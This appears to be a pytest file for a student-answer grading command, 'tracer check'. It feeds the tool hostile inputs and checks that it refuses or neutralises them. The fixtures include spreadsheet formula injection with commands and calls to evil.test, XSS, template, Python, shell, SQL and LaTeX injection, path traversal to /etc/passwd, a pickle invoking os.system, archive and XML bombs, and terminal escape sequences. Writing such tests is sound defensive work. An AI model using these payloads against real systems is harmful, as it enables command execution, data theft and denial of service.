"""Whatever somebody hands in, `tracer check` gives clear marks or one clear line.

Every test goes through the command line; `hostile.run` asserts what holds of all commands.
"""

from __future__ import annotations

import io
import json
import os
import random
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hostile import (
    HANGS,
    all_reports,
    check_gradebook,
    check_page,
    files_in,
    marks,
    only,
    run,
)

from tracer.check.outputs import file_names

ROOT = Path(__file__).parent.parent
GOOD = "name,value\nnet_h1,0.3775\nout_h1,0.5933\nE,0.2984\nw5+,0.3589\n"
RIGHT = {"net_h1": "right", "out_h1": "right", "E": "right", "w5+": "right"}


@pytest.fixture
def good(tmp_path: Path) -> Path:
    path = tmp_path / "good.csv"
    path.write_text(GOOD)
    return path


# ---- cells -----------------------------------------------------------------------------

UNREADABLE, RIGHT_MARK, MISSING = "unreadable", "right", "missing"
#: A cell typed for E, whose value is 0.298371109, and its mark; None: any but unreadable.
CELLS: dict[str, tuple[str, str | None]] = {
    "DDE command": ("=CMD|' /C calc'!A0", UNREADABLE),
    "DDE with a plus": ("+CMD|' /C calc'!A0", UNREADABLE),
    "DDE with a minus": ("-2+3+cmd|' /C calc'!A0", UNREADABLE),
    "DDE with at": ("@SUM(1+1)*cmd|' /C calc'!A0", UNREADABLE),
    "DDE after a tab": ("\t=CMD|' /C calc'!A0", UNREADABLE),
    "DDE after a line": ("\r\n=CMD|' /C calc'!A0", UNREADABLE),
    "full width formula": ("＝1+1", UNREADABLE),
    "hyperlink": ('=HYPERLINK("http://evil.test?x="&A1,"click")', UNREADABLE),
    "web service": ('=WEBSERVICE("http://evil.test")', UNREADABLE),
    "import": ('=IMPORTXML("http://evil.test","//a")', UNREADABLE),
    "formula of a number": ("=0.2984", RIGHT_MARK),
    "formula of a sum": ("=0.1+0.1984", UNREADABLE),
    "script": ("<script>alert(1)</script>", UNREADABLE),
    "image with a handler": ("<img src=x onerror=alert(1)>", UNREADABLE),
    "number in HTML": ("<b>0.2984</b>", UNREADABLE),
    "open comment": ("<!-- 0.2984", UNREADABLE),
    "entity": ("&#48;.2984", UNREADABLE),
    "address of a script": ("javascript:alert(1)", UNREADABLE),
    "Markdown image": ("![x](http://evil.test/x.png)", UNREADABLE),
    "Markdown link": ("[0.2984](http://evil.test)", UNREADABLE),
    "reference": ("[a]: http://evil.test 'x'", UNREADABLE),
    "autolink": ("<http://evil.test>", UNREADABLE),
    "bare address": ("https://evil.test/0.2984", UNREADABLE),
    "table ends": ("0.2984 | **right** |", UNREADABLE),
    "lines": ("0.2984\n\n# All right\n", UNREADABLE),
    "fence": ("```\n0.2984", UNREADABLE),
    "code": ("`0.2984`", RIGHT_MARK),
    "bold": ("**0.2984**", RIGHT_MARK),
    "strike": ("~~0.2984~~", UNREADABLE),
    "LaTeX": ("$0.2984$", RIGHT_MARK),
    "LaTeX input": (r"\input{/etc/passwd}", UNREADABLE),
    "LaTeX write": (r"\immediate\write18{ls}", UNREADABLE),
    "template": ("{{ 7*7 }}", UNREADABLE),
    "Jinja": ("{% for x in ().__class__.__bases__ %}{% endfor %}", UNREADABLE),
    "Python": ("__import__('os').system('touch owned')", UNREADABLE),
    "Python format": ("{0.__class__}", UNREADABLE),
    "percent format": ("%s%n%x", UNREADABLE),
    "shell": ("$(touch owned)", UNREADABLE),
    "backticks": ("`touch owned`", UNREADABLE),
    "SQL": ("'; DROP TABLE answers; --", UNREADABLE),
    "rich": ("[red]0.2984[/red]", UNREADABLE),
    "rich link": ("[link=http://evil.test]x[/link]", UNREADABLE),
    "rich closing": ("[/]", UNREADABLE),
    "NaN": ("NaN", UNREADABLE),
    "negative NaN": ("-nan", UNREADABLE),
    "infinite": ("inf", UNREADABLE),
    "minus infinity": ("-Infinity", UNREADABLE),
    "infinity sign": ("∞", UNREADABLE),
    "10^400": ("10^400", UNREADABLE),
    "1e309": ("1e309", UNREADABLE),
    "just below": ("1.797e308", None),
    "just below, negative": ("-1.797e308", None),
    "10^-400": ("10^-400", UNREADABLE),
    "denormal": ("1e-320", None),
    "smallest": ("5e-324", None),
    "huge power": ("1e999999999999999999999", UNREADABLE),
    "tower": ("9**9**9**9", UNREADABLE),
    "power": ("10^10^10", UNREADABLE),
    "minus zero": ("-0", None),
    "minus zero with digits": ("-0.0000", None),
    "many zeros": ("0." + "0" * 300, None),
    "zeros before": ("0" * 300 + ".2984", RIGHT_MARK),
    "zeros after": ("0.2984" + "0" * 300, None),
    "500 digits": ("0." + "2" * 500, UNREADABLE),
    "1 MB of digits": ("9" * 1_000_000, UNREADABLE),
    "1 MB of letters": ("x" * 1_000_000, UNREADABLE),
    "1 MB of minus signs": ("-" * 1_000_000, UNREADABLE),
    "1 MB of brackets": ("(" * 1_000_000, UNREADABLE),
    "1 MB of blanks": (" " * 1_000_000 + "0.2984", UNREADABLE),
    "1 MB of what nobody sees": ("\u200b" * 1_000_000, UNREADABLE),
    "many slashes": ("1/" * 400 + "1", UNREADABLE),
    "divides by zero": ("1/0", UNREADABLE),
    "zero of zero": ("0/0", UNREADABLE),
    "large fraction": ("1" * 190 + "/" + "3" * 190, None),
    "percent": ("29.84 %", RIGHT_MARK),
    "two percents": ("29.84 %%", UNREADABLE),
    "hexadecimal": ("0x1.3p-2", UNREADABLE),
    "octal": ("0o7", UNREADABLE),
    "complex": ("0.2984+0j", UNREADABLE),
    "underscores": ("0.29_84", UNREADABLE),
    "Arabic digits": ("٠٫٢٩٨٤", RIGHT_MARK),
    "full width digits": ("０．２９８４", RIGHT_MARK),
    "mathematical digits": ("𝟎.𝟐𝟗𝟖𝟒", RIGHT_MARK),
    "Roman numeral": ("Ⅷ", UNREADABLE),
    "superscript": ("²", UNREADABLE),
    "circled": ("①", None),
    "half": ("½", None),
    "letter O": ("O.2984", UNREADABLE),
    "decimal comma": ("0,2984", RIGHT_MARK),
    "thousands": ("1.234.567,8", None),
    "two points": ("0.29.84", UNREADABLE),
    "units": ("0.2984 V", UNREADABLE),
    "range": ("0.29 - 0.30", UNREADABLE),
    "plus minus": ("0.2984 ± 0.3", UNREADABLE),
    "all at once": ("0.2984 0.3 0.31", UNREADABLE),
    "colour": ("\x1b[31m0.2984\x1b[0m", UNREADABLE),
    "title of the window": ("\x1b]0;owned\x07 0.2984", UNREADABLE),
    "link of a terminal": ("\x1b]8;;http://evil.test\x1b\\x\x1b]8;;\x1b\\", UNREADABLE),
    "bell": ("\x07", UNREADABLE),
    "backspaces": ("0.9999\b\b\b\b\b\b0.2984", UNREADABLE),
    "eight bit escape": ("\x9b31m0.2984", UNREADABLE),
    "turned": ("\u202e4892.0\u202c", None),
    "isolate": ("\u20660.2984\u2069", RIGHT_MARK),
    "zero width": ("0.\u200b29\u200d84", RIGHT_MARK),
    "byte order mark": ("\ufeff0.2984", RIGHT_MARK),
    "line separator": ("0.2984\u2028", None),
    "soft hyphen": ("0.29\u00ad84", RIGHT_MARK),
    "private use": ("\ue000", UNREADABLE),
    "no letter": ("\uffff", UNREADABLE),
    "emoji": ("👩‍🔬 0.2984", UNREADABLE),
    "many accents": ("0" + "\u0301" * 500, UNREADABLE),
    "date": ("2024-01-03", UNREADABLE),
    "spreadsheet error": ("#REF!", UNREADABLE),
    "nothing but blanks": ("   ", MISSING),
    "nothing seen": ("\u200b\u200b", MISSING),
    "no-break blank": ("\u00a00.2984\u00a0", RIGHT_MARK),
    "null": ("null", UNREADABLE),
    "true": ("TRUE", UNREADABLE),
    "sorry": ("I don't know, sorry!", UNREADABLE),
    "path": ("../../../etc/passwd", UNREADABLE),
    "UNC path": (r"\\evil.test\share", UNREADABLE),
}  # fmt: skip


@pytest.mark.parametrize(("cell", "mark"), CELLS.values(), ids=CELLS)
def test_a_cell_gets_its_mark_and_the_rest_theirs(tmp_path: Path, cell: str, mark) -> None:
    path = tmp_path / "ada.json"
    path.write_text(json.dumps({"net_h1": "0.3775", "E": cell, "w5+": "0.3589"}))
    ran = all_reports(path, tmp_path / "out", gradescope=False)
    found = marks(ran)
    assert ("right", "right") == (found.pop("net_h1"), found.pop("w5+"))
    assert found["E"] in ({mark} if mark else {"right", "wrong", "slip", "mistake", "missing"})
    assert len(only(ran, "E")["typed"]) <= 200
    assert {"ada.json", "out"} == {p.name for p in tmp_path.iterdir()}


# ---- names -----------------------------------------------------------------------------

NAMES = {
    "empty": "",
    "blank": "  ",
    "escape": "\x1b[2J\x1b[31mw5+",
    "title of the window": "\x1b]0;owned\x07",
    "newline": "w5+\ntracer: all right",
    "return": "w5+\rE",
    "tab": "w5\t+",
    "NUL": "w5+\0",
    "bell": "w5+\x07",
    "delete": "w5+\x7f",
    "eight bit escape": "\x9b31mw5+",
    "right to left": "\u202ew5+",
    "right to left word": "ערך",
    "zero width": "w\u200b7+",
    "half of a pair": "\ud800w5+",
    "no letter": "\uffff",
    "long": "w" * 100_000,
    "long words": "w5 " * 10_000,
    "formula": "=CMD|' /C calc'!A0",
    "at": "@SUM(A1)",
    "plus": "+1",
    "minus": "-1",
    "script": "<script>alert(1)</script>",
    "image": "![x](http://evil.test/x.png)",
    "table ends": "a | b | c",
    "heading": "# All right",
    "rich": "[bold red]w5[/bold red]",
    "rich closing": "[/]",
    "template": "{{ 7*7 }}",
    "format": "{0}%s%n",
    "path": "../../etc/passwd",
    "dunder": "__class__",
    "address": "https://evil.test",
    "many accents": "w" + "\u0301" * 300,
    "deep fraction": "d" * 300 + "/d" * 300,
    "only signs": "+++---///",
    "index": "W1[999999999999,0]",
    "at an iteration": "E@1000000000000000000000",
    "quotes": "'\"`$",
    "emoji": "👩‍🔬",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_an_unknown_name_is_one_remark(tmp_path: Path, name: str) -> None:
    path = tmp_path / "ada.json"
    path.write_text(json.dumps({"net_h1": 0.3775, name: 0.5, "w6+": "0.4087"}))
    ran = all_reports(path, tmp_path / "out")
    found = marks(ran)
    assert {"net_h1": "right", "w6+": "right"}.items() <= found.items()
    (sheet,) = ran.sheets
    assert len(found) == 3 or 1 == len(sheet["remarks"])
    assert all(len(remark) < 600 for remark in sheet["remarks"])


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_student_may_be_called_anything(tmp_path: Path, name: str) -> None:
    path = tmp_path / "class.json"
    people = [
        {"student": who, "answers": {"net_h1": 0.3775, "E": 0.9}} for who in (name, "Zoe", name)
    ]
    path.write_text(json.dumps(people))
    ran = all_reports(path, tmp_path / "out")
    assert 3 == len({s["sheet"] for s in ran.sheets})
    assert "Zoe" in {s["sheet"] for s in ran.sheets}


FILE_NAMES = [
    "../../etc/passwd", "/etc/passwd", "..", ".", "", "CON", "con", "nul.txt", "COM1", "LPT9.csv",
    "a" * 300, "ü" * 300, "👩‍🔬" * 100, "a/b", "a\\b", "a:b", "a?b*", "Ada", "ADA", "ada", "ada-2",
    "é", "e\u0301", "É", "-rf", "--help", "~", "~root", "$HOME", "a\nb", "a\0b", "a b", "a  b",
    " ada ", ".hidden", "ada.", "ada...", "ﬁ", "fi", "ß", "ss", "SS", "İ", "i̇", "हिन्दी", "\ud800",
    "C:\\x", "file.md", "file", "<b>", "|", "%2e%2e%2f", "sheet", "sheet-2", "Ａda",
]  # fmt: skip


def test_names_of_files_are_harmless_and_no_two_are_one() -> None:
    found = list(file_names(FILE_NAMES))
    assert len(found) == len({name.casefold() for name in found})
    for name in found:
        assert name
        assert name[0] not in "-."
        assert name[-1] != "."
        assert name.isprintable()
        assert not set(name) & set('/\\:*?"<>|~$% \0\n')
        assert len(f"{name}.md".encode()) <= 255
        assert name.partition(".")[0].upper() not in {"CON", "NUL", "COM1", "LPT9"}
    assert "हिन्दी" in found


def test_feedback_stays_in_its_folder(tmp_path: Path) -> None:
    rows = "".join(f"{json.dumps(name)},0.2984\n" for name in FILE_NAMES if name.isprintable())
    path = tmp_path / "class.csv"
    path.write_text("student,E_total\n" + rows)
    out = tmp_path / "deep" / "out"
    ran = run("check", "mazur", path, "--feedback", out)
    pages = list(out.iterdir())
    assert ran.code == 1 or ran.code == 0
    assert len(pages) == rows.count("\n")
    assert {"class.csv", "deep"} == {p.name for p in tmp_path.iterdir()}
    assert ["out"] == [p.name for p in (tmp_path / "deep").iterdir()]
    for page in pages:
        check_page(page)


# ---- what a sheet may say twice, or of another pass ------------------------------------

PASSES = {
    "two spellings": ("w5+,0.3589\nw5_new,0.9\n", {"w5+": "right"}, "answered twice"),
    "three spellings": ("w5+,0.3589\nw5_new,0.3589\nw5⁺,0.3589\n", {"w5+": "right"}, "twice"),
    "once empty": ("w5_new,\nw5+,0.3589\n", {"w5+": "right"}, ""),
    "same name": ("w5+,0.3589\nw5+,0.9\n", {"w5+": "right"}, "answered twice"),
    "same name, same number": ("w5+,0.3589\nw5+,0.35890\n", {"w5+": "right"}, ""),
    "first unreadable": ("w5+,x\nw5+,0.3589\n", {"w5+": "right"}, "answered twice"),
    "iteration too late": ("E,0.2984,\nE,0.1,1000000000\n", {"E": "right"}, "iteration 1000000000"),
    "iteration a word": ("E,0.2984,x\n", {"E": "unreadable"}, ""),
    "iteration negative": ("E,0.2984,-1\n", {"E": "unreadable"}, ""),
    "iteration too large": ("E,0.2984,1e300\n", {"E": "unreadable"}, ""),
    "iteration a formula": ("E,0.2984,=1+1\n", {"E": "unreadable"}, ""),
    "iteration broken": ("E,0.2984,0.5\n", {"E": "unreadable"}, ""),
    "iteration zero": ("E,0.2984,0\n", {"E": "right"}, ""),
    "iteration one": ("E,0.2910,1\n", {"E": "right"}, ""),
    "iteration spelled": ("E,0.2984,0.00\n", {"E": "right"}, ""),
}


@pytest.mark.parametrize(("rows", "found", "said"), PASSES.values(), ids=PASSES)
def test_passes_and_names_twice(tmp_path: Path, rows: str, found, said: str) -> None:
    path = tmp_path / "a.csv"
    path.write_text("name,value,iteration\nnet_h1,0.3775,\n" + rows)
    ran = all_reports(path, tmp_path / "out")
    assert {"net_h1": "right", **found} == marks(ran)
    (sheet,) = ran.sheets
    assert said in " ".join(sheet["remarks"])
    assert bool(said) == bool(sheet["remarks"])


@pytest.mark.parametrize("sample", ["4", "1000000000", "-1", "x", "1e9", "0.5", "NaN"])
def test_a_sample_that_is_not_there(tmp_path: Path, sample: str) -> None:
    path = tmp_path / "a.csv"
    path.write_text(f"name,value,sample\nout_o,0.7,{sample}\nout_o,0.7,2\n")
    ran = all_reports(path, tmp_path / "out", scenario="or-gate")
    (sheet,) = ran.sheets
    unread = [m for m in sheet["marks"] if m["mark"] == "unreadable"]
    assert 1 == len(sheet["remarks"]) + len(unread)
    assert 2 in {m["sample"] for m in sheet["marks"]}


# ---- files -----------------------------------------------------------------------------


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


NOISE = random.Random(7).randbytes
#: The end of a file's name, what it holds, and a part of the line that refuses it.
REFUSED: dict[str, tuple[str, bytes, str]] = {
    "empty": ("csv", b"", "empty"),
    "blank": ("csv", b"\n \t\r\n", "empty"),
    "mark only": ("csv", b"\xef\xbb\xbf", "empty"),
    "mark only, UTF-16": ("csv", b"\xff\xfe", "empty"),
    "commas": ("csv", b",,,,\n,,,\n", "no answers in it"),
    "header": ("csv", b"name,value\n", "no answers in it"),
    "wide header": ("csv", b"student,w5+\n", "only a header"),
    "comments": ("csv", b"# nothing\n", "no answers in it"),
    "numbers": ("csv", b"0.1\n0.2\n", "numbers without names"),
    "no table": ("csv", b"a,b,c\nd,e,f\n", "rows of more than two cells"),
    "noise": ("csv", NOISE(5_000), "not a text file"),
    "zeros": ("csv", bytes(5_000), "not a text file"),
    "NUL": ("csv", GOOD.encode() + b"\0", "not a text file"),
    "UTF-16 without a mark": ("csv", GOOD.encode("utf-16-le"), "not a text file"),
    "UTF-32": ("csv", GOOD.encode("utf-32"), "not a text file"),
    "UTF-7 and controls": ("csv", b"+AD0-\x01\x02\x03", "not a text file"),
    "odd UTF-16": ("csv", b"\xff\xfea\0b", "not a text file"),
    "PDF": ("csv", b"%PDF-1.7\n", "a PDF"),
    "RTF": ("csv", b"{\\rtf1 0.41}", "a text document"),
    "PNG": ("csv", b"\x89PNG\r\n\x1a\n" + NOISE(99), "not a text file"),
    "GIF": ("csv", b"GIF89a" + NOISE(99), "not a text file"),
    "program": ("csv", b"\x7fELF\x02\x01\x01" + bytes(99), "not a text file"),
    "gzip": ("csv", b"\x1f\x8b\x08\x00" + NOISE(99), "not a text file"),
    "old Excel": ("xls", b"\xd0\xcf\x11\xe0" + bytes(99), "an old Office file"),
    "web page": ("csv", b"<!DOCTYPE html><table>", "a web page"),
    "web page as XLS": ("xls", b"<html><table><tr><td>w5+</table>", "a web page"),
    "SVG with a script": ("csv", b"<svg onload='alert(1)'/>", "a web page"),
    "XML bomb": ("csv", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a 'a'>]>", "a web page"),
    "archive": ("xlsx", zipped(x=b"w5+,1"), "an archive or a document"),
    "document": ("docx", zipped(word__document=b"x"), "an archive or a document"),
    "bomb": ("xlsx", zipped(xl__workbook=bytes(20_000_000)), "unpacks to more than 10 MB"),
    "cut archive": ("xlsx", zipped(xl__workbook=b"x")[:40], "a damaged XLSX file"),
    "hollow": ("xlsx", zipped(xl__workbook=b"x"), "a damaged XLSX file"),
    "text as XLSX": ("xlsx", GOOD.encode(), "not an XLSX file"),
    "many cells": ("csv", b"a,1\n" * 60_000, "more than 100,000 cells"),
    "wide row": ("csv", b"," * 3_000_000, "more than 100,000 cells"),
    "open quotes": ("csv", b'"' * 999_999 + b"\n" + b",\n" * 99_999, "more than"),
    "empty JSON": ("json", b"{}", "no answers in it"),
    "JSON list": ("json", b"[]", "no answers in it"),
    "JSON null": ("json", b"null", "no answers in it"),
    "JSON number": ("json", b"NaN", "no answers in it"),
    "JSON of numbers": ("json", b"[1, 2, 3]", "no answers in it"),
    "cut JSON": ("json", b'{"w5+": 0.41', "not valid JSON: line 1"),
    "Python": ("json", b"{'w5+': 0.41}", "not valid JSON: line 1"),
    "deep JSON": ("json", b"[" * 200_000, "nested too deeply"),
    "deep JSON objects": ("json", b'{"a":' * 200_000, "nested too deeply"),
    "pickle": ("json", b"\x80\x04\x95cos\nsystem\n", "not a text file"),
    "YAML": ("json", b"!!python/object/apply:os.system ['touch owned']", "not valid JSON"),
    "empty TOML": ("toml", b"# nothing\n", "no answers in it"),
    "bad TOML": ("toml", b"[a\n", "not valid TOML"),
    "deep TOML": ("toml", b"a = " + b"[" * 100_000, "nested too deeply"),
    "deep TOML keys": ("toml", b"a." * 50_000 + b"a = 1", "nested too deeply"),
    "long TOML number": ("toml", b"a = " + b"9" * 9_999, "too many digits"),
    "Markdown prose": ("md", b"# Mine\n\nE is 0.2984\n", "no table in it"),
    "Markdown rule": ("md", b"|---|---|\n", "no table in it"),
    "large": ("csv", b"a" * 10_000_001, "larger than 10 MB"),
}


@pytest.mark.parametrize(("ending", "raw", "said"), REFUSED.values(), ids=REFUSED)
def test_a_file_that_is_none_is_one_line(tmp_path: Path, ending: str, raw: bytes, said) -> None:
    path = tmp_path / f"ada.{ending}"
    path.write_bytes(raw)
    ran = run("check", "mazur", path, "--feedback", tmp_path / "f", "--gradebook", tmp_path / "g")
    assert 2 == ran.code
    assert said in ran.line
    assert ran.line.startswith(f"tracer: {path}: ")
    assert [path] == list(tmp_path.iterdir())


def test_in_a_folder_such_a_file_is_one_persons(tmp_path: Path) -> None:
    folder = tmp_path / "class"
    folder.mkdir()
    for name, (ending, raw, _) in REFUSED.items():
        (folder / f"{name}.{ending}").write_bytes(raw)
    (folder / "zoe.csv").write_text(GOOD)
    ran = all_reports(folder, tmp_path / "out")
    found = {s["sheet"]: s for s in ran.sheets}
    assert {*REFUSED, "zoe"} == set(found)
    assert {"right"} == {m["mark"] for m in found["zoe"]["marks"]}
    for name, (_, _, said) in REFUSED.items():
        (remark,) = found[name]["remarks"]
        assert said in remark or "not a kind of file" in remark


READ: dict[str, tuple[str, bytes]] = {
    "UTF-8 with a mark": ("csv", GOOD.encode("utf-8-sig")),
    "UTF-16": ("csv", GOOD.encode("utf-16")),
    "UTF-16 big end first": ("csv", b"\xfe\xff" + GOOD.encode("utf-16-be")),
    "returns": ("csv", GOOD.replace("\n", "\r").encode()),
    "mixed line ends": ("csv", GOOD.replace("\n", "\r\n", 2).encode()),
    "semicolons": ("csv", GOOD.replace(",", ";").replace(".", ",").encode()),
    "cp1252 remark": ("csv", b"# gr\xfc\xdfe\n" + GOOD.encode()),
    "no ending": ("", GOOD.encode()),
    "strange ending": ("exe", GOOD.encode()),
    "JSON": ("json", b'{"net_h1": 0.3775, "out_h1": 0.5933, "E": 0.2984, "w5+": 0.3589}'),
    "JSON as text": ("txt", b'{"net_h1": 0.3775, "out_h1": 0.5933, "E": 0.2984, "w5+": 0.3589}'),
    "JSON with __proto__": (
        "json",
        b'{"__proto__": {"value": "x"}, "net_h1": 0.3775, "out_h1": 0.5933, "E": 0.2984,'
        b' "w5+": 0.3589}',
    ),
    "assignments": ("txt", b"net_h1 = 0.3775\nout_h1 = 0.5933\nE = 0.2984\nw5+ = 0.3589\n"),
    "empty rows": ("csv", GOOD.replace("\n", "\n\n,\n").encode()),
    "blank lines first": ("csv", b"\n" * 5_000 + GOOD.encode()),
}


@pytest.mark.parametrize(("ending", "raw"), READ.values(), ids=READ)
def test_an_odd_file_is_read(tmp_path: Path, ending: str, raw: bytes) -> None:
    path = tmp_path / f"ada.{ending}".rstrip(".")
    path.write_bytes(raw)
    assert RIGHT == marks(all_reports(path, tmp_path / "out"))


# ---- what is no file -------------------------------------------------------------------


def a_pipe(folder: Path) -> Path:
    os.mkfifo(folder / "a.csv")
    return folder / "a.csv"


def a_link_to_a_pipe(folder: Path) -> Path:
    os.mkfifo(folder / "pipe")
    (folder / "a.csv").symlink_to(folder / "pipe")
    return folder / "a.csv"


def a_socket(folder: Path) -> Path:
    at = os.getcwd()
    os.chdir(folder)  # its name may have 100 characters
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind("a.csv")
    finally:
        os.chdir(at)
    return folder / "a.csv"


def a_loop(folder: Path) -> Path:
    (folder / "a.csv").symlink_to("a.csv")
    return folder / "a.csv"


def a_link_to_nothing(folder: Path) -> Path:
    (folder / "a.csv").symlink_to("b.csv")
    return folder / "a.csv"


def a_large_file(folder: Path) -> Path:
    with (folder / "a.csv").open("wb") as file:
        file.truncate(10**9)  # sparse
    return folder / "a.csv"


def a_link_to_zeros(folder: Path) -> Path:
    (folder / "a.csv").symlink_to("/dev/zero")
    return folder / "a.csv"


NO_FILES = {
    "pipe": (a_pipe, "a pipe, not a file"),
    "link to a pipe": (a_link_to_a_pipe, "a pipe, not a file"),
    "socket": (a_socket, "a socket, not a file"),
    "loop": (a_loop, "Too many levels of symbolic links"),
    "link to nothing": (a_link_to_nothing, "a link to nothing"),
    "1 GB": (a_large_file, "larger than 10 MB"),
    "zeros": (lambda _: Path("/dev/zero"), "a device, not a file"),
    "link to zeros": (a_link_to_zeros, "a device, not a file"),
    "random": (lambda _: Path("/dev/urandom"), "a device, not a file"),
    "null": (lambda _: Path("/dev/null"), "a device, not a file"),
    "memory": (lambda _: Path("/proc/self/mem"), ""),
    "missing": (lambda folder: folder / "a.csv", "no such file or folder"),
    "in a file": (lambda _: Path(__file__) / "a.csv", "Not a directory"),
    "empty folder": (lambda folder: folder, "no files of answers in this folder"),
    "long": (lambda folder: folder / ("a" * 300), "File name too long"),
    "very long": (lambda folder: folder / ("a/" * 5_000), "…: File name too long"),
    "NUL": (lambda _: Path("a\0b"), "null"),
    "escape": (lambda folder: folder / "\x1b[31ma.csv", "no such file or folder"),
    "lines": (lambda folder: folder / "a\ntracer: fine.csv", "no such file or folder"),
}


@pytest.mark.parametrize(("made", "said"), NO_FILES.values(), ids=NO_FILES)
def test_what_is_no_file_is_one_line(tmp_path: Path, made, said: str) -> None:
    path = made(tmp_path)
    before = files_in(tmp_path)
    ran = run("check", "mazur", path, "--gradebook", tmp_path.parent / "grades.csv")
    assert 2 == ran.code
    assert said in ran.line
    assert before == files_in(tmp_path)
    assert not (tmp_path.parent / "grades.csv").exists()


@pytest.mark.parametrize("made", ["pipe", "link to a pipe", "socket", "loop", "link to nothing",
                                  "1 GB", "link to zeros"])  # fmt: skip
def test_what_is_no_file_does_not_stop_a_class(tmp_path: Path, made: str) -> None:
    folder = tmp_path / "class"
    folder.mkdir()
    make, said = NO_FILES[made]
    make(folder)
    (folder / "zoe.csv").write_text(GOOD)
    ran = all_reports(folder, tmp_path / "out")
    by_name = {s["sheet"]: s for s in ran.sheets}
    assert said in by_name["a"]["remarks"][0]
    assert {"right"} == {m["mark"] for m in by_name["zoe"]["marks"]}


def test_a_folder_called_like_a_file_holds_a_persons_file(tmp_path: Path) -> None:
    (tmp_path / "class" / "x.csv").mkdir(parents=True)
    (tmp_path / "class" / "x.csv" / "a.csv").write_text(GOOD)
    ran = all_reports(tmp_path / "class", tmp_path / "out")
    assert ["x.csv/a"] == [s["sheet"] for s in ran.sheets]
    assert 0 == run("check", "mazur", tmp_path / "class" / "x.csv").code


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_a_file_nobody_may_read(good: Path) -> None:
    good.chmod(0)
    assert "Permission denied" in run("check", "mazur", good).line


def test_files_of_one_name_but_for_their_case_and_ending(tmp_path: Path) -> None:
    folder = tmp_path / "class"
    folder.mkdir()
    for name in ("ada.csv", "Ada.csv", "ADA.txt", "ada.json.csv", "ada"):
        (folder / name).write_text(GOOD)
    ran = all_reports(folder, tmp_path / "out")
    assert 5 == len({s["sheet"] for s in ran.sheets})


# ---- very many -------------------------------------------------------------------------


def test_a_folder_with_3000_files(tmp_path: Path) -> None:
    folder = tmp_path / "class"
    folder.mkdir()
    for k in range(3_000):
        (folder / f"{k}.csv").write_text(GOOD if k % 9 else f"E,0.{k}\n")
    out, book = tmp_path / "out", tmp_path / "g.csv"
    ran = run("check", "mazur", folder, "--gradebook", book, "--feedback", out, "--json",
              units=5_000)  # fmt: skip
    assert 1 == ran.code
    check_gradebook(book.read_text(), 3_000)
    assert 3_000 == len(list(out.iterdir()))


def many(rows: str, count: int) -> str:
    return "".join(rows.format(k=k) for k in range(count))


MANY = {
    "unknown names": "name,value\n" + many("q{k}x,0.{k}\n", 20_000),
    "one name": "name,value\n" + many("E,0.{k}\n", 20_000),
    "one name misspelt": "name,value\n" + many("E_totall,0.{k}\n", 20_000),
    "iterations": "name,value,iteration\n" + many("E,=CMD,{k}\n", 10_000),
    "late iterations": "name,value,iteration\n" + many("E,0.{k},9999{k}\n", 9_000),
    "samples": "name,value,sample\n" + many("E,0.{k},{k}\n", 10_000),
    "bad cells": "name,value\n" + many("E,=CMD{k}\n", 20_000),
    "bad rows": "name,value\n" + many("E,0.2984,x,{k}\n", 24_000),
    "values without names": "name,value\nE,0.2984\n" + many(",0.{k}\n", 33_000),
    "people": "student,E_total\n" + many("s{k},0.2984\n", 2_000),
    "columns": "student," + many("c{k},", 9_000) + "E_total\n" + many("s{k},\n", 9),
    "unknown columns": (
        "student," + many("what is {k},", 40) + "E_total\n" + ("s" + ",1" * 40 + ",0.2984\n") * 300
    ),
}


@pytest.mark.parametrize("text", MANY.values(), ids=MANY)
def test_very_many_are_marked_or_refused_in_time(tmp_path: Path, text: str) -> None:
    path = tmp_path / "many.csv"
    path.write_text(text)
    ran = run("check", "mazur", path, "--json", "--gradebook", tmp_path / "g.csv")
    assert ran.code in (0, 1)
    for sheet in ran.sheets:
        assert len(sheet["remarks"]) <= 30


def test_100_000_answers_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "many.json"
    path.write_text(json.dumps({f"q{k}": k for k in range(100_001)}))
    assert "more than 100,000 answers; split the file" in run("check", "mazur", path).line


def test_one_hostile_sheet_costs_nobody_else_a_mark(tmp_path: Path) -> None:
    """The iterations of the class are looked at, not all that a single sheet names."""
    folder = tmp_path / "class"
    folder.mkdir()
    header = "name,value,iteration\n"
    (folder / "ada.csv").write_text(header + many("E,?,{k}\n", 20_000))
    (folder / "bob.csv").write_text(header + "E,0.1,1000000000\n" + many("x{k},1,\n", 5_000))
    for name in ("cyd", "zoe"):
        (folder / f"{name}.csv").write_text(header + "E,0.2984,0\nE_total,0.000035,10000\n")
    ran = run("check", "mazur", folder, "--json")
    by_name = {s["sheet"]: s for s in ran.sheets}
    for name in ("cyd", "zoe"):
        told = {(m["iteration"], m["mark"]) for m in by_name[name]["marks"] if m["typed"]}
        assert {(0, "right"), (10_000, "right")} == told
    assert any("iteration 1000000000" in remark for remark in by_name["bob"]["remarks"])


# ---- what is written -------------------------------------------------------------------


def refused(*args: object, said: str, input: str | None = None) -> None:
    ran = run(*args, input=input)
    assert 2 == ran.code, ran
    assert said in ran.line


def test_a_gradebook_on_standard_output(good: Path) -> None:
    ran = run("check", "mazur", good, "--gradebook", "-")
    assert ran.out.startswith("sheet,points,worth,percent,mistakes,")
    check_gradebook(ran.out, 1)
    assert [good] == list(good.parent.iterdir())


@pytest.mark.parametrize("option", ["--json", "--gradescope"])
def test_one_thing_on_standard_output(good: Path, option: str) -> None:
    refused("check", "mazur", good, "--gradebook", "-", option, said="choose one")


OUTPUTS = {
    "folder": ("--gradebook", lambda f: f, "a folder, not a file"),
    "folder of that name": ("--gradebook", lambda f: f / "folder.csv", "a folder, not a file"),
    "in a file": ("--gradebook", lambda f: f / "good.csv" / "g.csv", "a file, not a folder"),
    "deep in a file": ("--gradebook", lambda f: f / "good.csv" / "a" / "g.csv", "Not a directory"),
    "device": ("--gradebook", lambda _: Path("/dev/null"), "a device or a pipe"),
    "pipe": ("--gradebook", lambda f: f / "pipe", "a device or a pipe"),
